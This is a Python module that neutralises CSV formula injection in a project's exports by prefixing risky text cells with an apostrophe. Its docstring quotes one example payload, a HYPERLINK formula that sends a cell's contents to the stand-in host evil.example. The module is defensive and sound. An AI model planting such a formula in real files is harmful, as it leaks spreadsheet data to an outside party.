"""The one way the project writes CSV: every cell that a spreadsheet would run as a formula is
made plain text first.

A proposal titled ``=HYPERLINK("http://evil.example/?d="&A1,"open")`` becomes a live link in
Excel or LibreOffice when a councillor opens the report or the audit log, and can send the
sheet's contents away. OWASP's advice ("CSV injection") is followed: a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text and do not evaluate. Numbers are left alone (a negative number is not
text a person wrote). ``tests/foundation/test_exports.py`` fails if any module calls
``csv.writer`` itself.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

#: What a spreadsheet takes as the start of a formula (tab and carriage return too: some
#: programs strip them and then read what follows).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it, never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every cell neutralised."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **options: Any) -> SafeWriter:
    """A CSV writer for anything the project exports (takes ``csv.writer``'s options)."""
    return SafeWriter(out, **options)
